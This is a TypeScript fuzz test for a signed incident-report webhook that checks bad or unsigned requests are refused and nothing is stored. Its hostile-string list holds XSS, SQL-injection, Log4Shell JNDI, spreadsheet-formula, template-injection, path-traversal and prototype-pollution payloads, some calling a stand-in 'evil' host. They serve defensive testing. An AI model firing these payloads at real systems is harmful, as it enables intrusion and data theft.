import { ScanCommand } from '@aws-sdk/client-dynamodb';
import { ListObjectsV2Command } from '@aws-sdk/client-s3';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { signatureHeaders } from '../../functions/disc/signature.ts';
import { startTestStack, type TestStack } from '../support/local-stack.ts';

const WEBHOOK_SECRET = 'fuzz-disc-webhook-secret-0123456789abcdefghij';
const SUBJECT_KEY = 'fuzz-disc-subject-key-0123456789abcdefghijkl';
const PATH = '/integrations/disc/incidents';

const valid = {
  schemaVersion: 1,
  incidentId: 'INC-FUZZ-1',
  incidentType: 'theft',
  occurredAt: '2024-05-14T16:20:00+01:00',
  premises: { name: 'Corner Mini-Market', postcode: 'LE1 5WW' },
  description: 'Two bottles taken.',
  subjects: [{ name: 'Someone Named' }],
};

/** Strings people use to break things: markup, injection, formulae, odd Unicode, huge numbers. */
const hostileString = fc.oneof(
  fc.constantFrom(
    '<script>alert(1)</script>',
    "'; DROP TABLE reports; --",
    '=HYPERLINK("http://evil","x")',
    '${jndi:ldap://evil/a}',
    '{{7*7}}',
    '../../../../etc/passwd',
    '\u0000\u0001\u001f',
    '\uD800',
    '\u202Eevil',
    '__proto__',
    'constructor',
    '',
    ' ',
  ),
  fc.string({ maxLength: 50 }),
);

/** A value of the wrong JSON type for wherever it is put. */
const wrongTyped = fc.oneof(
  fc.integer(),
  fc.double({ noNaN: true }),
  fc.boolean(),
  fc.constant(null),
  fc.array(fc.integer(), { maxLength: 3 }),
  fc.dictionary(fc.string({ maxLength: 5 }), fc.integer(), { maxKeys: 3 }),
);

/** A v1 incident broken in one required place: a wrong type, a hostile value, or a missing field. */
const brokenIncident = fc
  .tuple(
    fc.constantFrom('schemaVersion', 'incidentId', 'incidentType', 'occurredAt', 'premises', 'description', 'subjects'),
    fc.oneof(
      wrongTyped.map((v) => ({ kind: 'set' as const, v })),
      hostileString.map((v) => ({ kind: 'set' as const, v })),
      fc.constant({ kind: 'drop' as const, v: undefined }),
    ),
  )
  .filter(([field, change]) => {
    // Keep only changes that really break the field (a hostile string is a fine description).
    if (change.kind === 'drop') return field !== 'subjects';
    if (field === 'description' && typeof change.v === 'string') return change.v.trim() === '';
    if (field === 'schemaVersion') return change.v !== 1;
    if (field === 'incidentId' && typeof change.v === 'string') return !/^[A-Za-z0-9._:-]{1,64}$/.test(change.v);
    if (field === 'incidentType' && typeof change.v === 'string') return !['theft', 'attempted-theft', 'making-off-without-payment', 'verbal-abuse', 'threatening-behaviour', 'physical-assault'].includes(change.v);
    if (field === 'subjects') return !Array.isArray(change.v) || change.v.length > 0;
    return true;
  })
  .map(([field, change]) => {
    const copy: Record<string, unknown> = { ...valid };
    if (change.kind === 'drop') delete copy[field];
    else copy[field] = change.v;
    return JSON.stringify(copy);
  });

const notJson = fc.oneof(
  fc.string({ maxLength: 200 }).filter((s) => {
    try {
      JSON.parse(s);
      return false;
    } catch {
      return true;
    }
  }),
  fc.constantFrom('{"schemaVersion":', '[1,2', '\u0000', '{"a":1}}', 'nul'),
);

describe('integration: DISC webhook fuzzing', () => {
  let stack: TestStack;

  const stored = async () => {
    await stack.settle();
    const items = await stack.dynamodb.send(new ScanCommand({ TableName: stack.endpoints.tables.main, Select: 'COUNT' }));
    const archived = await stack.s3.send(new ListObjectsV2Command({ Bucket: stack.endpoints.buckets.archive }));
    const intake = await stack.s3.send(new ListObjectsV2Command({ Bucket: stack.endpoints.buckets.intake }));
    return { items: items.Count ?? 0, archived: archived.KeyCount ?? 0, intake: intake.KeyCount ?? 0, events: stack.observed.length };
  };

  const expectRefusal = async (res: Response, statuses: number[]) => {
    expect(statuses).toContain(res.status);
    const body = (await res.json()) as { error?: { message?: unknown } };
    expect(typeof body.error?.message).toBe('string');
    expect(String(body.error?.message).length).toBeGreaterThan(10);
  };

  const post = (body: string, headers: Record<string, string>) =>
    fetch(`${stack.endpoints.gateway}${PATH}`, { method: 'POST', body, headers });

  beforeAll(async () => {
    process.env.DISC_WEBHOOK_SECRET = WEBHOOK_SECRET;
    process.env.DISC_SUBJECT_KEY = SUBJECT_KEY;
    stack = await startTestStack();
  });
  afterAll(() => stack.dispose());

  it('refuses anything unsigned with 401 whatever the body, and stores nothing', async () => {
    const before = await stored();
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(notJson, brokenIncident, fc.constant(JSON.stringify(valid))),
        fc.record({ 'X-Disc-Timestamp': fc.oneof(hostileString, fc.nat().map(String)), 'X-Disc-Signature': hostileString.map((s) => `v1=${s}`) }, { requiredKeys: [] }),
        fc.constantFrom('application/json', 'text/plain', 'application/x-www-form-urlencoded'),
        async (body, headers, type) => {
          const safeHeaders = Object.fromEntries(Object.entries(headers).map(([k, v]) => [k, v.replace(/[^\x20-\x7e]/g, '')]));
          await expectRefusal(await post(body, { 'content-type': type, ...safeHeaders }), [401]);
        },
      ),
      { numRuns: 60 },
    );
    expect(await stored()).toEqual(before);
  });

  it('refuses signed bodies that are malformed, wrongly typed or hostile with 400, 415 or 422, and stores nothing', async () => {
    const before = await stored();
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          notJson.map((body) => ({ body, type: 'application/json' })),
          brokenIncident.map((body) => ({ body, type: 'application/json' })),
          fc.constant({ body: JSON.stringify(valid), type: 'text/plain' }),
          fc.jsonValue({ maxDepth: 4 }).map((v) => ({ body: JSON.stringify(v), type: 'application/json' })),
        ),
        async ({ body, type }) => {
          const res = await post(body, { 'content-type': type, ...signatureHeaders(WEBHOOK_SECRET, body) });
          await expectRefusal(res, [400, 415, 422]);
        },
      ),
      { numRuns: 120 },
    );
    expect(await stored()).toEqual(before);
  });

  it('refuses a body over 256 KB with 413, signed or not, and stores nothing', async () => {
    const before = await stored();
    for (const size of [256 * 1024 + 1, 300 * 1024, 2 * 1024 * 1024]) {
      const body = JSON.stringify({ ...valid, description: 'x'.repeat(size) });
      await expectRefusal(await post(body, { 'content-type': 'application/json', ...signatureHeaders(WEBHOOK_SECRET, body) }), [413]);
      await expectRefusal(await post(body, { 'content-type': 'application/json' }), [413]);
    }
    expect(await stored()).toEqual(before);
  });

  it('refuses deeply nested JSON without falling over', async () => {
    const body = `${'['.repeat(50_000)}${']'.repeat(50_000)}`;
    await expectRefusal(await post(body, { 'content-type': 'application/json', ...signatureHeaders(WEBHOOK_SECRET, body) }), [400, 422]);
  });

  it('keeps answering after the fuzzing, and still accepts a good incident', async () => {
    expect((await stack.request('GET', '/health')).status).toBe(200);
    const body = JSON.stringify(valid);
    const res = await post(body, { 'content-type': 'application/json', ...signatureHeaders(WEBHOOK_SECRET, body) });
    expect(res.status).toBe(202);
  });
});
